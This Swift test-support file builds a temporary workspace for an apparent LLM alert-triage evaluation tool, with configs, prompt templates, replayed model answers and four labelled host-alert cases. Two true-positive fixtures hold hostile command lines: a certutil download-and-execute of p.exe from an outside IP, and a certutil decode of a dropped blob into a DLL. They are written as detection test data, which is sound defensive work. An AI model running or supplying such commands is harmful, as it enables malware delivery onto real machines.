import Foundation
import StubTestSupport
import TriageEval
import TriageEvalProviders
@testable import TriageEvalEngine
@testable import TriageEvalStore

/// Expected replay decisions: case id → (label, recorded answer).
let recordedAnswers: [(id: String, answer: String)] = [
    ("cert-download-01", "verdict=TP confidence=0.92 summary=certutil download and execute"),
    ("cert-decode-02", "verdict=TP confidence=0.65 summary=certutil decode of a dropped blob"),
    ("sccm-script-01", "verdict=FP confidence=0.90 summary=SCCM client running its own script"),
    ("sccm-inventory-02", "verdict=SUSPICIOUS confidence=0.80 summary=inventory script from an odd path"),
]

let caseYAML = #"""
    - id: cert-download-01
      label: TP
      scenario: certutil
      tags: [must-alert]
      entity: {type: host, name: WS-FIN-0118}
      alert_count: 7
      time_window_minutes: 2
      max_risk_score: 73
      rules: ["Suspicious CertUtil Commands"]
      command_lines:
        - 'certutil.exe -urlcache -split -f http://45.9.148.21/p.exe C:\Users\Public\p.exe'

    - id: cert-decode-02
      label: TP
      scenario: certutil
      entity: {type: host, name: WS-LOG-0044}
      alert_count: 3
      time_window_minutes: 5
      max_risk_score: 47
      rules: ["Suspicious CertUtil Commands"]
      command_lines:
        - 'certutil.exe -decode C:\Users\Public\blob.txt C:\Users\Public\run.dll'

    - id: sccm-script-01
      label: FP
      scenario: SCCM
      tags: [must-not-alert]
      entity: {type: host, name: SRV-APP-0007}
      alert_count: 2
      time_window_minutes: 1
      max_risk_score: 21
      rules: ["Suspicious PowerShell Execution"]
      command_lines:
        - 'powershell.exe -NoLogo -ExecutionPolicy Bypass -File C:\Windows\CCM\SystemTemp\b7e2.ps1'
      parent_command_lines: ['C:\Windows\CCM\CcmExec.exe']

    - id: sccm-inventory-02
      label: FP
      scenario: SCCM
      entity: {type: host, name: SRV-APP-0008}
      alert_count: 4
      time_window_minutes: 3
      max_risk_score: 21
      rules: ["Suspicious PowerShell Execution"]
      command_lines:
        - 'powershell.exe -NoProfile -File C:\Windows\CCM\Inventory\collect.ps1'
    """#

/// A host prompt in the style of `prompts/host-triage/v2.prompt`, with a short template.
func promptFile(version: String, minConfidence: Double) -> String {
    """
    ---
    id: host-triage
    version: \(version)
    description: 'Short test prompt'
    entity: host
    output:
      format: dissect
      pattern: "verdict=%{verdict} confidence=%{confidence} summary=%{summary}"
      verdicts: [TP, FP, SUSPICIOUS]
    decision:
      alert_verdicts: [TP, SUSPICIOUS]
      verdict_case: ignore
      min_confidence: \(minConfidence)
    ---
    Host {{host_name}} ran: {{cmdlines_str}}. Structure the output as follows: verdict=<verdict> confidence=<score between 0.0 and 1.0> summary=<short reason> on a single line.

    """
}

let configYAML = """
    store: .triage-eval/store.sqlite
    cases: cases
    prompts: prompts
    reports: reports
    models:
      - id: recorded
        provider: replay
        path: answers.jsonl
        concurrency: 3
        max_retries: 0
      - id: heuristic
        provider: heuristic
    decision:
      alert_verdicts: [TP, SUSPICIOUS]
      min_confidence: 0.7
    """

/// JSONL of recorded answers for samples `0..<samples`, leaving out `missing` (case id, sample) pairs.
func answersJSONL(samples: Int = 3, missing: Set<String> = []) throws -> String {
    var lines: [String] = []
    for (id, answer) in recordedAnswers {
        for sample in 0..<samples where !missing.contains("\(id)#\(sample)") {
            let data = try JSONSerialization.data(withJSONObject: ["case_id": id, "sample": sample, "response": answer] as [String: Any], options: [.sortedKeys])
            lines.append(String(decoding: data, as: UTF8.self))
        }
    }
    return lines.joined(separator: "\n") + "\n"
}

/// A workspace in a fresh temporary directory: config, 4 cases, two prompt versions and a replay file.
final class TemporaryWorkspace: Sendable {
    let directory: URL
    let workspace: Workspace
    let store: Store

    init(answers: String? = nil) throws {
        directory = Scratch.url("triage-eval-ws")
        let manager = FileManager.default
        try manager.createDirectory(at: directory.appendingPathComponent("cases"), withIntermediateDirectories: true)
        try manager.createDirectory(at: directory.appendingPathComponent("prompts/host-triage"), withIntermediateDirectories: true)
        try configYAML.write(to: directory.appendingPathComponent("triage-eval.yaml"), atomically: true, encoding: .utf8)
        try caseYAML.write(to: directory.appendingPathComponent("cases/hosts.yaml"), atomically: true, encoding: .utf8)
        try promptFile(version: "v1", minConfidence: 0.7)
            .write(to: directory.appendingPathComponent("prompts/host-triage/v1.prompt"), atomically: true, encoding: .utf8)
        try promptFile(version: "v2", minConfidence: 0.6)
            .write(to: directory.appendingPathComponent("prompts/host-triage/v2.prompt"), atomically: true, encoding: .utf8)
        try (answers ?? answersJSONL()).write(to: directory.appendingPathComponent("answers.jsonl"), atomically: true, encoding: .utf8)
        workspace = try Workspace.load(configPath: directory.appendingPathComponent("triage-eval.yaml").path)
        store = try Store(path: workspace.storePath)
        owner = nil
    }

    /// The same directory, its config re-read (after a test rewrote it); the original stays owner of the files.
    init(reloading other: TemporaryWorkspace) throws {
        directory = other.directory
        workspace = try Workspace.load(configPath: directory.appendingPathComponent("triage-eval.yaml").path)
        store = try Store(path: workspace.storePath)
        owner = other
    }

    /// Keeps the workspace that created the files alive (it deletes them when released).
    private let owner: TemporaryWorkspace?

    deinit {
        if owner == nil { try? FileManager.default.removeItem(at: directory) }
    }

    func write(_ text: String, to relativePath: String) throws {
        try text.write(to: directory.appendingPathComponent(relativePath), atomically: true, encoding: .utf8)
    }

    var preparer: RunPreparer { RunPreparer(workspace: workspace, store: store) }

    /// Prepares, records, executes and finishes a run, as `triage-eval run` does.
    func run(_ request: RunRequest) async throws -> (plan: RunPlan, info: RunInfo, counters: RunCounters) {
        let prepared = try await preparer.prepare(request)
        let plan = prepared.plan
        let runID = try await store.createRun(
            toolVersion: "test", gitCommit: nil, selection: RunInfo.Selection(prompts: request.prompts, models: request.models, scenarios: request.scenarios),
            plan: plan.recorded, planned: plan.count
        )
        let counters = try await RunExecutor(store: store, plan: plan, runID: runID).execute().counters
        let info = try await store.finishRun(runID)
        return (plan, info, counters)
    }
}
